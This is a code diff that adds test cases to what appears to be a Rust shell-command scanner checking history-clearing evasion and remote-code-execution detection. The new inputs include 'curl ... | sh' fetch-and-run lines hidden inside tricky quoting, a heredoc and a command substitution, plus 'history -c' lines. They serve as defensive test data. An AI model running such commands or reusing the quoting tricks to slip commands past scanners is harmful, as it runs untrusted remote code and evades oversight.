@@ -3341,6 +3341,11 @@ fn command_lines_kept_in_variables_and_git_settings_are_read() {
             "SKG-EVADE-001",
             true,
         ),
+        (
+            "history -c; history -r ~/.bash_history\nhistory -c; history -r; history -w\n".into(),
+            "SKG-EVADE-001",
+            false,
+        ),
         // Look-alikes: the usual values, a setting that is no command, an alias that is git's,
         // the shared-history prompt command, a prompt that shows a download.
         (
@@ -3503,6 +3508,19 @@ fn interpreters_by_versioned_names_and_downloads_that_name_the_command() {
             rce,
             true,
         ),
+        // A third review's: a `)` in a substitution's own quotes; a `#` in a parameter
+        // expansion; an unquoted download before a `/` is still split into the program.
+        (
+            "bash -c \"$(echo \")\" >/dev/null) true; curl -s http://10.0.0.9/x | sh\"\n",
+            rce,
+            true,
+        ),
+        (
+            "echo \"$(cat <<EOF)\" ${x:- #}; curl -s http://10.0.0.9/x | sh\nnotes\nEOF\n",
+            rce,
+            true,
+        ),
+        ("$(curl -s http://10.0.0.9/x)/x arg\n", rce, true),
         // Look-alikes: a download that is an argument's data, a version that names no
         // interpreter, a document that is printed, where a program is found, a backquote that
         // opens an argument, a download naming a folder of the program's path.
